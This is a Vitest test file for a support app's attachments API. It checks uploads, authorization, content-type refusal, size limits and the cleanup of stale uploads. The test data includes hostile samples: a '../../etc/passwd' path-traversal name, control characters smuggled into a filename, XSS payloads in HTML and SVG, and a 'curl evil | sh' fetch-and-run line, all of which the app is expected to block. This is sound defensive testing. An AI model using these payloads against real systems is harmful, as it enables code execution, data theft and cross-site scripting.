// Attachments through the API: upload (streamed, checked by content), attach to messages, download
// with the authorization of the message, on both engines and both storages.
import { attachmentLimits } from "@cirrus/domain";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { deleteStaleUploads, pendingAttachmentLifetimeMs } from "../attachments/link.ts";
import { type Actor, createTestApp, type TestApp } from "../test-support/app.ts";
import { pngBytes, sha256, storeTestAttachment, uploadForm } from "../test-support/attachments.ts";

const MB = 1024 * 1024;

interface Uploaded {
  id: string;
  name: string;
  mediaType: string;
  size: number;
  sha256: string;
  inline: boolean;
}

async function upload(t: TestApp, actor: Actor, files: Parameters<typeof uploadForm>[0]) {
  return t.call("POST", "/v1/attachments", { token: actor.token, form: uploadForm(files) });
}

async function uploadOk(
  t: TestApp,
  actor: Actor,
  files: Parameters<typeof uploadForm>[0],
): Promise<Uploaded[]> {
  const res = await upload(t, actor, files);
  expect(res.status, await res.clone().text()).toBe(201);
  return ((await res.json()) as { items: Uploaded[] }).items;
}

async function counts(t: TestApp) {
  const files = await t.db
    .selectFrom("attachments")
    .select((eb) => eb.fn.countAll<number>().as("n"))
    .executeTakeFirstOrThrow();
  const chunks = await t.db
    .selectFrom("attachmentChunks")
    .select((eb) => eb.fn.countAll<number>().as("n"))
    .executeTakeFirstOrThrow();
  return { files: Number(files.n), chunks: Number(chunks.n) };
}

async function problemCode(res: Response) {
  expect(res.headers.get("content-type")).toContain("application/problem+json");
  return ((await res.json()) as { code: string }).code;
}

describe.each(["database", "disk"] as const)("attachments stored in the %s", (storage) => {
  let t: TestApp;
  let customer: Actor;
  let colleague: Actor;
  let stranger: Actor;
  let agent: Actor;
  beforeAll(async () => {
    t = await createTestApp({ storage });
    const org = await t.organization("premium");
    customer = await t.user("customer", org.id);
    colleague = await t.user("customer", org.id);
    stranger = await t.user("customer", (await t.organization("premium")).id);
    agent = await t.user("agent");
  });
  afterAll(() => t.close());

  it("round-trips a 3 MB screenshot: upload, attach to a new request, download the same bytes", async () => {
    const bytes = pngBytes(1000);
    expect(bytes.length).toBeGreaterThan(2.8 * MB);
    const [file] = await uploadOk(t, customer, [{ name: "Capture d’écran.png", bytes }]);
    expect(file).toMatchObject({
      name: "Capture d’écran.png",
      mediaType: "image/png",
      size: bytes.length,
      sha256: sha256(bytes),
      inline: true,
    });
    if (storage === "database") expect((await counts(t)).chunks).toBeGreaterThanOrEqual(12); // 256 kB rows

    const opened = await t.call("POST", "/v1/requests", {
      token: customer.token,
      json: { subject: "Export", category: "bug", body: "Voir la capture.", attachmentIds: [file?.id] },
    });
    expect(opened.status).toBe(201);
    const request = (await opened.json()) as { id: string; messages: { attachments: Uploaded[] }[] };
    expect(request.messages[0]?.attachments).toEqual([
      expect.objectContaining({ id: file?.id, size: bytes.length }),
    ]);

    for (const reader of [customer, colleague, agent]) {
      const res = await t.call("GET", `/v1/attachments/${file?.id}`, { token: reader.token });
      expect(res.status).toBe(200);
      const received = new Uint8Array(await res.arrayBuffer());
      expect(sha256(received)).toBe(sha256(bytes));
      expect(res.headers.get("content-length")).toBe(String(bytes.length));
      expect(res.headers.get("content-type")).toBe("image/png");
      expect(res.headers.get("content-disposition")).toBe(
        `attachment; filename="Capture d__cran.png"; filename*=UTF-8''Capture%20d%E2%80%99%C3%A9cran.png`,
      );
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(res.headers.get("content-security-policy")).toContain("sandbox");
      expect(res.headers.get("content-security-policy")).toContain("default-src 'none'");
    }
    const inline = await t.call("GET", `/v1/attachments/${file?.id}?disposition=inline`, {
      token: agent.token,
    });
    expect(inline.headers.get("content-disposition")).toMatch(/^inline; /);
    const etag = inline.headers.get("etag") ?? "";
    expect(etag).toBe(`"${sha256(bytes)}"`);
    const again = await t.call("GET", `/v1/attachments/${file?.id}`, {
      token: agent.token,
      headers: { "if-none-match": etag },
    });
    expect(again.status).toBe(304);
    expect(await again.text()).toBe("");
  });

  it("attaches files to replies and agent messages; internal-note files stay hidden from customers", async () => {
    const opened = await t.call("POST", "/v1/requests", {
      token: customer.token,
      json: { subject: "Lenteur", category: "bug", body: "Ça rame." },
    });
    const { id: requestId } = (await opened.json()) as { id: string };
    const [log] = await uploadOk(t, customer, [
      { name: "server.log", bytes: new TextEncoder().encode("ERREUR à 10:02\n") },
    ]);
    t.clock.advance(60_000); // messages are ordered by time
    const reply = await t.call("POST", `/v1/requests/${requestId}/messages`, {
      token: customer.token,
      json: { body: "Le journal.", attachmentIds: [log?.id] },
    });
    expect(reply.status).toBe(201);

    const [note] = await uploadOk(t, agent, [
      { name: "analyse.pdf", bytes: new TextEncoder().encode("%PDF-1.7\n…") },
    ]);
    const [answer] = await uploadOk(t, agent, [{ name: "correctif.png", bytes: pngBytes(4) }]);
    for (const [file, visibility] of [
      [note, "internal"],
      [answer, "public"],
    ] as const) {
      t.clock.advance(60_000);
      const res = await t.call("POST", `/v1/agent/requests/${requestId}/messages`, {
        token: agent.token,
        json: { body: `Message ${visibility}`, visibility, attachmentIds: [file?.id] },
      });
      expect(res.status).toBe(201);
    }

    const customerView = (await (
      await t.call("GET", `/v1/requests/${requestId}`, { token: customer.token })
    ).json()) as {
      messages: { body: string; attachments: { id: string }[] }[];
    };
    const seen = customerView.messages.flatMap((m) => m.attachments.map((a) => a.id));
    expect(seen).toEqual([log?.id, answer?.id]);
    expect((await t.call("GET", `/v1/attachments/${note?.id}`, { token: customer.token })).status).toBe(404);
    expect((await t.call("GET", `/v1/attachments/${answer?.id}`, { token: customer.token })).status).toBe(
      200,
    );
    const log404 = await t.call("GET", `/v1/attachments/${log?.id}`, { token: stranger.token });
    expect(log404.status).toBe(404);
    expect(await problemCode(log404)).toBe("not-found");

    const agentView = (await (
      await t.call("GET", `/v1/agent/requests/${requestId}`, { token: agent.token })
    ).json()) as {
      messages: { attachments: { id: string }[] }[];
    };
    expect(agentView.messages.flatMap((m) => m.attachments.map((a) => a.id))).toEqual([
      log?.id,
      note?.id,
      answer?.id,
    ]);
    expect((await t.call("GET", `/v1/attachments/${note?.id}`, { token: agent.token })).status).toBe(200);
  });

  it("shows a pending upload to its uploader only, and lets no one else attach it", async () => {
    const [file] = await uploadOk(t, customer, [{ name: "a.png", bytes: pngBytes(2) }]);
    expect((await t.call("GET", `/v1/attachments/${file?.id}`, { token: customer.token })).status).toBe(200);
    for (const other of [colleague, stranger, agent]) {
      expect((await t.call("GET", `/v1/attachments/${file?.id}`, { token: other.token })).status).toBe(404);
    }
    const res = await t.call("POST", "/v1/requests", {
      token: colleague.token,
      json: { subject: "Vol", category: "bug", body: "Je prends le fichier.", attachmentIds: [file?.id] },
    });
    expect(res.status).toBe(422);
    expect(await res.json()).toMatchObject({
      code: "validation-failed",
      errors: [{ field: "attachmentIds" }],
    });
  });

  it("attaches a file once: a second message with the same id is refused and keeps nothing", async () => {
    const [file] = await uploadOk(t, customer, [{ name: "a.png", bytes: pngBytes(2) }]);
    const first = await t.call("POST", "/v1/requests", {
      token: customer.token,
      json: { subject: "Un", category: "bug", body: "Un.", attachmentIds: [file?.id] },
    });
    expect(first.status).toBe(201);
    const before = await t.db.selectFrom("requests").select("id").execute();
    const second = await t.call("POST", "/v1/requests", {
      token: customer.token,
      json: { subject: "Deux", category: "bug", body: "Deux.", attachmentIds: [file?.id] },
    });
    expect(second.status).toBe(422);
    expect(await t.db.selectFrom("requests").select("id").execute()).toHaveLength(before.length);
  });

  it("stores a file named ../../etc/passwd or with control characters under a safe name", async () => {
    const [passwd] = await uploadOk(t, customer, [
      { name: "../../etc/passwd", bytes: new TextEncoder().encode("root:x:0:0:root:/root:/bin/bash\n") },
    ]);
    // Browsers escape CR/LF in multipart file names; other clients may not: send them raw.
    const raw = [
      "--b0undary",
      'Content-Disposition: form-data; name="files"; filename="rap\tport\u0000\u202e\u0007.pdf"',
      "Content-Type: application/pdf",
      "",
      "%PDF-1.4",
      "--b0undary--",
      "",
    ].join("\r\n");
    const sent = await t.call("POST", "/v1/attachments", {
      token: customer.token,
      body: raw,
      headers: { "content-type": "multipart/form-data; boundary=b0undary" },
    });
    expect(sent.status, await sent.clone().text()).toBe(201);
    const [report] = ((await sent.json()) as { items: Uploaded[] }).items;
    expect(passwd?.name).toBe("passwd.txt");
    expect(passwd?.mediaType).toBe("text/plain");
    expect(report?.name).toBe("rapport.pdf");
    const res = await t.call("GET", `/v1/attachments/${report?.id}`, { token: customer.token });
    expect(res.headers.get("content-disposition")).toBe(
      `attachment; filename="rapport.pdf"; filename*=UTF-8''rapport.pdf`,
    );
    const text = await t.call("GET", `/v1/attachments/${passwd?.id}?disposition=inline`, {
      token: customer.token,
    });
    // Only raster images are ever inline; text is a download whatever is asked.
    expect(text.headers.get("content-disposition")).toMatch(/^attachment; /);
    expect(text.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    if (storage === "disk") {
      const { readdir } = await import("node:fs/promises");
      // Files on disk are named by id only: nothing of the user's name reaches the file system.
      for (const name of await readdir(t.attachmentsDir)) expect(name).toMatch(/^[A-Za-z0-9_-]+$/);
    }
  });

  it("refuses executables, HTML and SVG by content, whatever their name (415), keeping nothing", async () => {
    const before = await counts(t);
    for (const [name, content] of [
      ["capture.png", "MZ\u0090\u0000 This program cannot be run in DOS mode"],
      ["notes.txt", "<!DOCTYPE html><script>alert(document.cookie)</script>"],
      ["logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
      ["page.html", "Bonjour"],
      ["run.log", "#!/bin/sh\ncurl evil | sh\n"],
    ] as const) {
      const res = await upload(t, customer, [
        { name: "ok.png", bytes: pngBytes(2) },
        { name, bytes: new TextEncoder().encode(content) },
      ]);
      expect(res.status, name).toBe(415);
      expect(await res.json()).toMatchObject({ code: "unsupported-attachment-type", file: name });
    }
    expect(await counts(t)).toEqual(before);
  });

  it("refuses a file over 10 MB (413) and a message over 25 MB in total, keeping nothing", async () => {
    const before = await counts(t);
    const tooBig = await upload(t, customer, [
      { name: "big.png", bytes: pngBytes(8, attachmentLimits.maxFileBytes) },
    ]);
    expect(tooBig.status).toBe(413);
    expect(await problemCode(tooBig)).toBe("attachment-too-large");

    const nine = () => pngBytes(8, 9 * MB);
    const tooMuch = await upload(t, customer, [
      { name: "a.png", bytes: nine() },
      { name: "b.png", bytes: nine() },
      { name: "c.png", bytes: nine() },
    ]);
    expect(tooMuch.status).toBe(413);
    expect(await problemCode(tooMuch)).toBe("attachments-too-large");
    expect(await counts(t)).toEqual(before);
  }, 60_000);

  it("refuses more than 5 files in one upload or on one message", async () => {
    const six = Array.from({ length: 6 }, (_, i) => ({ name: `f${i}.png`, bytes: pngBytes(2) }));
    const res = await upload(t, customer, six);
    expect(res.status).toBe(422);
    expect(await problemCode(res)).toBe("too-many-attachments");

    const ids = [
      ...(await uploadOk(t, customer, six.slice(0, 3))),
      ...(await uploadOk(t, customer, six.slice(3))),
    ].map((f) => f.id);
    const open = await t.call("POST", "/v1/requests", {
      token: customer.token,
      json: { subject: "Six", category: "bug", body: "Six fichiers.", attachmentIds: ids },
    });
    expect(open.status).toBe(422);
  });

  it("answers 415 for a body that is not multipart and 400 for a broken one, 422 for no file", async () => {
    const json = await t.call("POST", "/v1/attachments", { token: customer.token, json: { files: [] } });
    expect(json.status).toBe(415);
    const broken = await t.call("POST", "/v1/attachments", {
      token: customer.token,
      body: '--x\r\nContent-Disposition: form-data; name="files"; filename="a.png"\r\n\r\nabc',
      headers: { "content-type": "multipart/form-data; boundary=x" },
    });
    expect([400, 415]).toContain(broken.status);
    expect(broken.headers.get("content-type")).toContain("application/problem+json");
    const empty = new FormData();
    empty.append("note", "no file here");
    const none = await t.call("POST", "/v1/attachments", { token: customer.token, form: empty });
    expect(none.status).toBe(422);
  });

  it("deletes uploads never sent after a day, content included", async () => {
    const pending = await storeTestAttachment(t, customer.user, null);
    const kept = await storeTestAttachment(t, customer.user, null);
    await t.db
      .updateTable("attachments")
      .set({
        createdAt: new Date(t.clock.now().getTime() - pendingAttachmentLifetimeMs - 1000).toISOString(),
      })
      .where("id", "=", pending.id)
      .execute();
    expect(await deleteStaleUploads(t.db, t.attachments, t.clock.now())).toBe(1);
    expect((await t.call("GET", `/v1/attachments/${pending.id}`, { token: customer.token })).status).toBe(
      404,
    );
    expect((await t.call("GET", `/v1/attachments/${kept.id}`, { token: customer.token })).status).toBe(200);
    if (storage === "database") {
      const chunks = await t.db
        .selectFrom("attachmentChunks")
        .where("attachmentId", "=", pending.id)
        .select("seq")
        .execute();
      expect(chunks).toEqual([]);
    } else {
      const { existsSync } = await import("node:fs");
      const { join } = await import("node:path");
      expect(existsSync(join(t.attachmentsDir, pending.id))).toBe(false);
      expect(existsSync(join(t.attachmentsDir, kept.id))).toBe(true);
    }
  });
});
